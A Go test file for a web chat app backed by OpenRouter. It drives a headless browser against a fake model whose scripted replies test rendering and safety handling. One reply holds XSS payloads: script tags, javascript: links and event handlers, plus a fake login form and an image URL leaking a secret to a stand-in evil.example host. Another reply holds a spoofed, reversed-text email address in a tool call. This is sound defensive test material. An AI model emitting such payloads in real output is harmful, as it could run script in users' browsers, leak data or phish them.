package main

import (
	"bufio"
	"cmp"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openrouter-go/openrouter"
	"github.com/openrouter-go/openrouter/openroutertest"
)

const evil = "### Evil\n\n[good](https://example.com/good) [javascript link](javascript:window.pwned=1) [data link](data:text/html,<script>window.pwned=1</script>)\n\n" +
	"![x](https://evil.example/leak?secret=1) ![y](javascript:window.pwned=1)\n\n" +
	"<script>window.pwned=1</script> <img src=x onerror=\"window.pwned=1\"> <iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>\n\n" +
	"<style>body{display:none}</style><form action=https://evil.example><button>Log in</button></form>\n\n" +
	"**[bold](https://example.com/bold)** and https://example.com/plain.\n\n" +
	"> <svg onload=\"window.pwned=1\">\n\n- <b onclick=\"window.pwned=1\">x</b>\n\n| a | b |\n|---|---|\n| [in a table](https://example.com/cell) | <a href=\"javascript:window.pwned=1\">x</a> |\n\n" +
	"```html\n<script>window.pwned=1</script>\n```\n"

// A user drives the page in headless Chromium. The test gets puppeteer from npm and, where there is
// no Chromium, the one of Debian, so that it runs only where OPENROUTER_BROWSER is set: to 1, or to a
// folder for the pictures.
func TestBrowser(t *testing.T) {
	pictures := os.Getenv("OPENROUTER_BROWSER")
	if pictures == "" {
		t.Skip("OPENROUTER_BROWSER is not set")
	}
	dir := t.TempDir()
	if pictures == "1" {
		pictures = dir
	}
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		command(t, dir, "apt-get", "update")
		command(t, dir, "apt-get", "install", "-y", "--no-install-recommends", "chromium", "fonts-dejavu-core")
		chromium, err = exec.LookPath("chromium")
		require.NoError(t, err)
	}
	script, err := os.ReadFile("testdata/browser.mjs")
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "browser.mjs"), script, 0o600))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "package.json"), []byte(`{"private":true}`), 0o600))
	command(t, dir, "npm", "install", "--no-audit", "--no-fund", "--save-exact", "puppeteer-core@24.43.1")

	program := filepath.Join(dir, "webchat.exe")
	command(t, ".", "go", "build", "-o", program, ".")
	fake := openroutertest.NewServer(t, replies()...)
	url := start(t, program, fake)
	t.Log(command(t, dir, "node", "browser.mjs", url, chromium, pictures))

	for _, r := range fake.Requests() {
		if r.Text() == "Count for ever." {
			<-r.Context().Done() // stop has cancelled the request to the service
		}
		data, err := json.Marshal(r.Body.Messages)
		require.NoError(t, err)
		assert.Equal(t, openrouter.RoleSystem, r.Body.Messages[0].Role)
		assert.NotContains(t, string(data), "approval")
	}
}

// replies are what the model says.
func replies() []openroutertest.Reply {
	mail := openroutertest.ToolCall("call_2", "send_mail", `{"To":"ada@example.com","Subject":"Rain","Text":"It rains."}`)
	after := func(first, second openroutertest.Reply) openroutertest.Reply {
		return openroutertest.Func(func(r *openroutertest.Request) openroutertest.Reply {
			switch last := r.Body.Messages[len(r.Body.Messages)-1]; {
			case last.Role != openrouter.RoleTool:
				return first
			case strings.Contains(last.Text(), "not allowed"):
				return openroutertest.Text("I leave it.")
			case strings.Contains(last.Text(), "sent"):
				return openroutertest.Text("It is sent.")
			}
			return second
		}).Always()
	}
	return []openroutertest.Reply{
		openroutertest.Reasoning("They want ", "a story.").Text("Once ", "upon ", "a time ", "there was ", "a gopher.").Pace(50*time.Millisecond).
			Usage(20, 10).Cost(0.01).ForText("Tell a story.").Always(),
		after(openroutertest.ToolCall("call_1", "get_weather", `{"City":"Oslo"}`), mail).ForText("Is it raining?"),
		after(mail, mail).ForText("Mail Bob."),
		openroutertest.Text("one ", "two ").Stall().ForText("Count for ever.").Times(2),
		after(openroutertest.ToolCall("call_3", "send_mail", `{"To":"\u202emoc.elpmaxe@ada","Subject":"Rain","Text":"It rains."}`), mail).ForText("Spoof."),
		openroutertest.Text("And so on").FinishReason(openrouter.FinishReasonLength).ForText("Be long."),
		openroutertest.Text(evil).ForText("evil"),
		openroutertest.Text(strings.Repeat("> ", 20000), "deep\n\n", strings.Repeat("[", 5000), strings.Repeat("**", 5000), "\n\nThe end.").ForText("deep"),
		openroutertest.Text("It").MidStreamError(502, openrouter.ErrProviderUnavailable, "raw").ForText("Fail."),
		openroutertest.Text("It works again.").ForText("Fail."),
		openroutertest.Text("Gone.").Cost(1).ForText("Spend."),
	}
}

// start starts the program with a fake as the service, and returns its address.
func start(t *testing.T, program string, fake *openroutertest.Server) string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), program, "-addr", "127.0.0.1:0")
	cmd.Env = append(slices.DeleteFunc(os.Environ(), func(v string) bool { return strings.HasPrefix(v, "OPENROUTER_") }),
		"OPENROUTER_API_KEY="+openroutertest.Key, "OPENROUTER_BASE_URL="+fake.URL)
	cmd.Stderr = os.Stderr
	out, err := cmd.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, cmd.Start())
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	line, err := bufio.NewReader(out).ReadString('\n')
	require.NoError(t, err)
	return strings.TrimSpace(line)
}

func command(t *testing.T, dir, program string, args ...string) string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), program, args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	require.NoError(t, err, "%s", cmp.Or(string(out), program))
	return string(out)
}
